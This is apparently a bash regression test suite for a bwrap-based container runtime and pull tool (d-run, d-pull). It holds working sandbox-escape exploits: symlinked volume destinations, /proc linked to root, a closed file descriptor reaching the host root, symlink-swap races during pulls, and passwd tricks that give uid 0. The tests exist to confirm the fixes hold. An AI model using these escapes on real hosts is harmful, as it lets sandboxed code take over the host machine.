#!/bin/bash
# SPDX-License-Identifier: MIT
# Attacks found in review, each a real exploit run against the current build, as root and as an
# unprivileged user. Each test fails while its bug is there.
#  F1  d-run: a persistent volume nested in another one (textually) whose destination is a
#      symlink in the image: the two destinations do not nest once resolved, but the host paths
#      DIR/volumes/a and DIR/volumes/a/x do. A run replaces DIR/volumes/a/x by a link to "/";
#      the next run resolves the host path through it (inside DIR) and binds DIR itself, read-
#      write, into the sandbox: the image rewrites DIR/config.json and grants itself a bind of
#      any host path. Three runs of an image, no option: the host is writable.
#  F2  d-run: is_under(path, "/") is false for every path but "/", so a mount destination that
#      resolves to "/" (image symlink /v -> /) is accepted (bwrap binds the volume over the
#      whole root) and an image whose /proc is a link to "/" makes the /proc-and-/dev check
#      vacuous: a volume /self/cwd/oldroot/HOST/... in the image config makes bwrap 0.8 create
#      HOST/... on the host.
#  F3  d-pull: DIR is used by path. A local user who can write in DIR's parent (a shared,
#      non-sticky directory) swaps DIR for a link after d-pull made DIR/rootfs: every layer is
#      then unpacked (as root: with owners) into a directory of the attacker's choosing that the
#      caller can write, outside DIR, and d-pull reports success.
#  F4  d-pull: the same by a parent of DIR: the attacker makes DIR/rootfs fail to be created
#      and d-pull's clean-up removes, recursively, a directory outside DIR.
#  F5  d-run started with stdin, stdout or stderr closed: bwrap's fd of the host's /proc takes
#      that number, and bwrap's pid 1 in the sandbox keeps it: /proc/1/fd/N/.. is the host's /.
#  F6  persistent volumes nested across runs: -v /a lets a run leave DIR/volumes/a/x -> /, and
#      a later -v /a/x bound DIR itself (config.json and all) read-write.
#  F9  d-run -u 1000 took the first passwd line whose name OR uid was "1000": an image line
#      named "1000" with uid 0 made it root.
# Images are built here with tests/hostile2.py's helpers; tests/proxy.py delays the registry.
# shellcheck source-path=SCRIPTDIR source=lib.sh disable=SC2016
. "$(dirname "$0")/lib.sh"

sandbox_users WHO
NW=${#WHO[@]}
GUARD=${D_TEST_HANG_GUARD:-120}
plan $((4 + NW * (3 + 3 + 2 + 1 + 2 + 1)))

# --- helpers (uid_of, start_proxy... are lib.sh's) -----------------------------------------

# the attacker of F3/F4: another unprivileged user than the victim
attacker_of() { if [ "$1" = as_root ]; then echo 65534; else echo 65533; fi; }

# pull_busybox NAME: as W, busybox from the tls registry into $H/NAME; a diag when it fails
pull_busybox() { "$W" "$DPULL" -q "$REG_TLS/busybox" "$H/$1" 2>"$T/err" || diag "$me: pull $1: $(cat "$T/err")"; }

HOSTW=$T/hostw # the host directory the escapes aim at: writable by both users
mkdir -p "$HOSTW"
chmod 0777 "$HOSTW"

# build_images: pushes sec/a26-NAME to the tls registry: busybox plus one attack layer
build_images() {
	HOSTW=$HOSTW "$PYTHON" - "$REG_TLS" "$FIXTURES" <<'PY'
import io, json, os, sys, tarfile
src = os.path.join(os.environ.get("SRC", "."), "tests", "hostile2.py")
sys.argv = ["hostile2.py", sys.argv[1], sys.argv[2]]  # no IMAGE: its main() pushes nothing
g = {"__name__": "hostile2"}
exec(compile(open(src).read(), src, "exec"), g)
HOSTW = os.environ["HOSTW"]

def e(name, kind="dir", link=""):
    ti = tarfile.TarInfo(name)
    ti.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE}[kind]
    ti.mode = 0o755 if kind == "dir" else 0o777
    ti.linkname, ti.mtime = link, 1700000000
    return ti, b""

def dirs(path):
    parts = path.strip("/").split("/")
    return [e("/".join(parts[: i + 1])) for i in range(len(parts))]

base, config = g["busybox"]()
def push(name, entries, **cfg):
    c = dict(config)
    c.update(cfg)
    g["push_image"]("a26-" + name, [base, g["layer"](entries)], c)

# F1: /a/x -> /tmp/q in the image; volumes /a and /a/x. Run 1 turns DIR/volumes/a/x into
# a link to "/", run 2 finds DIR bound at /tmp/q and adds a host bind to config.json, run 3
# writes on the host.
stages = ("if touch /host/PWNED-F1 2>/dev/null; then echo stage3; "
          "elif [ -f /tmp/q/config.json ]; then sed -i 's|\"Volumes\":[[:space:]]*{|&\"%s:/host\": {}, |' "
          "/tmp/q/config.json && grep -q :/host /tmp/q/config.json && echo stage2; "
          "else mv /a/x /a/old && ln -s / /a/x && echo stage1; fi") % HOSTW
push("nest", [e("a"), e("a/x", "symlink", "/tmp/q"), e("tmp/q")],
     Volumes={"/a": {}, "/a/x": {}}, Cmd=["sh", "-c", stages])
# F2: /v -> / and a volume /v (bound over the whole root)
push("rootvol", [e("v", "symlink", "/")], Volumes={"/v": {}}, Cmd=["sh", "-c", "echo RAN"])
# F2: /proc -> /, so that nothing is "under" it; /dev and /tmp to what procfs has
push("procroot", [e("proc", "symlink", "/"), e("dev", "symlink", "/sys"), e("fs"),
                  e("tmp", "symlink", "/fs")] + dirs("self/cwd/oldroot" + HOSTW),
     Volumes={"/self/cwd/oldroot%s/PWNED-F2" % HOSTW: {}}, Cmd=["sh", "-c", "echo RAN"])
PY
}

# --- set-up ------------------------------------------------------------------------------
ok "start the tls registry" start_registry tls
ok "push busybox" push_fixture busybox "$REG_TLS"
ok "build and push the attack images" build_images

# --- F1: nested persistent volumes: the sandbox gets DIR, then the host ------------------------
for W in "${WHO[@]}"; do
	H=$(user_home "$W")
	me=${W#as_}
	rm -rf "${HOSTW:?}"/*
	"$W" "$DPULL" -q "$REG_TLS/sec/a26-nest" "$H/nest" 2>"$T/err" || diag "$me: pull nest: $(cat "$T/err")"
	cp "$H/nest/config.json" "$T/nest-config.json" 2>/dev/null
	out=""
	for i in 1 2 3; do
		out+="$("$W" timeout "$GUARD" "$DRUN" "$H/nest" 2>&1) "
	done
	diag "$me: F1 runs said: $out"
	is "F1 $me: an image with volumes /a and /a/x (/a/x -> /tmp/q in the image): no run writes on the host" \
		"$(ls -A "$HOSTW")" ""
	is "F1 $me:   ... and no run rewrites DIR/config.json" \
		"$(cmp "$T/nest-config.json" "$H/nest/config.json" 2>&1 && echo same)" same
	like "F1 $me:   ... d-run refuses the second run (DIR/volumes/a/x is a link a run left), or the pair" \
		"$out" "d-run: "
	rm -rf "${HOSTW:?}"/*
done

# --- F2: a destination that resolves to "/" ------------------------------------------------
for W in "${WHO[@]}"; do
	H=$(user_home "$W")
	me=${W#as_}
	rm -rf "${HOSTW:?}"/*
	"$W" "$DPULL" -q "$REG_TLS/sec/a26-rootvol" "$H/rootvol" 2>"$T/err" || diag "$me: pull rootvol: $(cat "$T/err")"
	"$W" "$DPULL" -q "$REG_TLS/sec/a26-procroot" "$H/procroot" 2>"$T/err" || diag "$me: pull procroot: $(cat "$T/err")"
	"$W" timeout "$GUARD" "$DRUN" "$H/rootvol" >"$T/out" 2>"$T/err"
	like "F2 $me: volume /v, /v -> / in the image (a volume over the whole root): refused by d-run" \
		"$? $(head -c 300 "$T/err")" '^1 d-run: '
	"$W" timeout "$GUARD" "$DRUN" "$H/procroot" >"$T/out" 2>"$T/err"
	rc=$?
	is "F2 $me: /proc -> / in the image, volume /self/cwd/oldroot$HOSTW/PWNED-F2: nothing created on the host" \
		"$(ls -A "$HOSTW")" ""
	like "F2 $me:   ... refused by d-run" "$rc $(head -c 300 "$T/err")" '^1 d-run: '
	rm -rf "${HOSTW:?}"/*
done

# --- F3 and F4: DIR's parent writable by another user -------------------------------------
# A proxy that delays blobs (F3) or manifests (F4) by 3 s: a slow registry, which gives the
# attacker the time a poll loop needs.
ok "start the slow proxies" eval '
	start_proxy slowblob --upstream "https://$REG_TLS" --rule "{\"method\": \"GET\", \"match\": \"/blobs/\", \"delay\": 3}" &&
	start_proxy slowman --upstream "https://$REG_TLS" --rule "{\"method\": \"GET\", \"match\": \"/manifests/\", \"delay\": 3}"'
for W in "${WHO[@]}"; do
	me=${W#as_}
	uid=$(uid_of "$W")
	bad=$(attacker_of "$W")
	SH=$T/shared-$me # e.g. a group-writable project directory: no sticky bit
	mkdir -m 0777 "$SH"
	# F3: the victim's own private directory, that the attacker cannot write
	V=$T/victim-$me
	mkdir -m 0700 "$V"
	echo precious >"$V/keep"
	chown -R "$uid:$uid" "$V"
	setpriv --reuid="$bad" --regid="$bad" --clear-groups sh -c '
		cd "$1" || exit 1
		end=$(($(date +%s) + 60))
		while [ ! -d box/rootfs ] && [ "$(date +%s)" -lt "$end" ]; do sleep 0.02; done
		mv box box.old && mkdir -m 0777 evil && ln -s "$2" evil/rootfs && ln -s evil box' sh "$SH" "$V" \
		</dev/null >"$T/attacker.log" 2>&1 &
	apid=$!
	"$W" timeout "$GUARD" env XDG_CACHE_HOME="$(user_home "$W")/cache-f3" "$DPULL" -q \
		"127.0.0.1:$PORT_SLOWBLOB/busybox" "$SH/box" >"$T/out" 2>"$T/err"
	rc=$?
	wait "$apid"
	diag "F3 $me: d-pull exit $rc: $(head -c 300 "$T/err"); attacker: $(cat "$T/attacker.log")"
	is "F3 $me: DIR swapped for a link by another user while d-pull runs: nothing unpacked into the victim's private directory" \
		"$(ls -A "$V" | tr '\n' ' ')$(stat -c %a "$V")" "keep 700"

	# F4: a parent of DIR is the caller's, in the shared directory; the attacker swaps it
	# for a link to where a directory named box (with a rootfs) is
	mkdir -p "$SH/proj" "$T/victim2-$me/box/rootfs"
	echo precious >"$T/victim2-$me/box/keep"
	chown -R "$uid:$uid" "$SH/proj" "$T/victim2-$me"
	setpriv --reuid="$bad" --regid="$bad" --clear-groups sh -c '
		cd "$1" || exit 1
		end=$(($(date +%s) + 60))
		while [ ! -d proj/box ] && [ "$(date +%s)" -lt "$end" ]; do sleep 0.02; done
		mv proj proj.old && ln -s "$2" proj' sh "$SH" "$T/victim2-$me" \
		</dev/null >"$T/attacker.log" 2>&1 &
	apid=$!
	"$W" timeout "$GUARD" env XDG_CACHE_HOME="$(user_home "$W")/cache-f4" "$DPULL" -q \
		"127.0.0.1:$PORT_SLOWMAN/busybox" "$SH/proj/box" >"$T/out" 2>"$T/err"
	rc=$?
	wait "$apid"
	diag "F4 $me: d-pull exit $rc: $(head -c 300 "$T/err"); attacker: $(cat "$T/attacker.log")"
	is "F4 $me: a parent of DIR swapped for a link by another user: d-pull's clean-up removes nothing outside DIR" \
		"$(cat "$T/victim2-$me/box/keep" 2>&1)" precious
done

# --- F5: d-run started with stdin, stdout or stderr closed. bwrap opens the host's /proc
#     (O_PATH) as its first free fd and its pid 1, inside the sandbox, keeps fds 0-2: the
#     command reaches the host's root as /proc/1/fd/N/.. -----------------------------------------
for W in "${WHO[@]}"; do
	H=$(user_home "$W")
	me=${W#as_}
	rm -rf "${HOSTW:?}"/*
	pull_busybox f5
	# shellcheck disable=SC2034 # used by the eval below
	F5='for n in 0 1 2; do (cd "/proc/1/fd/$n" 2>/dev/null && touch "../$1/PWNED-F5-$n"); done'
	for how in '<&-' '>&-' '2>&-'; do
		eval '"$W" timeout "$GUARD" "$DRUN" "$H/f5" sh -c "$F5" sh "${HOSTW#/}"' "$how"
	done
	is "F5 $me: d-run with stdin, stdout or stderr closed: nothing in the sandbox reaches the host through bwrap's pid 1" \
		"$(ls -A "$HOSTW")" ""
	rm -rf "${HOSTW:?}"/*
done

# --- F6: persistent volumes nested across runs: -v /a in one run (which leaves
#     DIR/volumes/a/x -> /), -v /a/x in the next, which then binds DIR itself, config.json and
#     all, read-write; the image writes a host bind into config.json for the run after --------------
for W in "${WHO[@]}"; do
	H=$(user_home "$W")
	me=${W#as_}
	rm -rf "${HOSTW:?}"/*
	pull_busybox f6
	cp "$H/f6/config.json" "$T/f6-config.json"
	"$W" timeout "$GUARD" "$DRUN" -v /a "$H/f6" sh -c 'ln -s / /a/x' >/dev/null 2>&1
	"$W" timeout "$GUARD" "$DRUN" -v /a/x "$H/f6" sh -c \
		'[ -f /a/x/config.json ] && printf "{\"Volumes\": {\"%s:/host\": {}}, \"Cmd\": [\"sh\"]}" "$1" >/a/x/config.json' \
		sh "$HOSTW" >"$T/out" 2>"$T/err"
	rc=$?
	"$W" timeout "$GUARD" "$DRUN" "$H/f6" sh -c 'touch /host/PWNED-F6' >/dev/null 2>&1
	is "F6 $me: -v /a, then -v /a/x where the first run left /a/x -> /: config.json unchanged, nothing on the host" \
		"$(cmp "$T/f6-config.json" "$H/f6/config.json" >/dev/null 2>&1 && echo same) $(ls -A "$HOSTW")" "same "
	like "F6 $me:   ... the second run is refused with one line" "$rc $(wc -l <"$T/err") $(head -c 300 "$T/err")" '^1 1 d-run: '
	rm -rf "${HOSTW:?}"/*
done

# --- F9: an image's passwd line named "1000" with uid 0: -u 1000 is the uid, as in docker ------
for W in "${WHO[@]}"; do
	H=$(user_home "$W")
	me=${W#as_}
	pull_busybox f9
	"$W" sh -c 'cp "$1/rootfs/etc/passwd" "$1/passwd.new" && { echo "1000:x:0:0:fake:/:/bin/sh"; cat "$1/passwd.new"; } >"$1/rootfs/etc/passwd"' sh "$H/f9"
	is "F9 $me: passwd names a user \"1000\" with uid 0 before the real 1000: -u 1000 runs as uid 1000, without the filter" \
		"$("$W" timeout "$GUARD" "$DRUN" -u 1000 "$H/f9" sh -c 'id -u; grep ^Seccomp: /proc/self/status' 2>&1 | tr '\n' ' ')" \
		"1000 Seccomp:	0 "
done
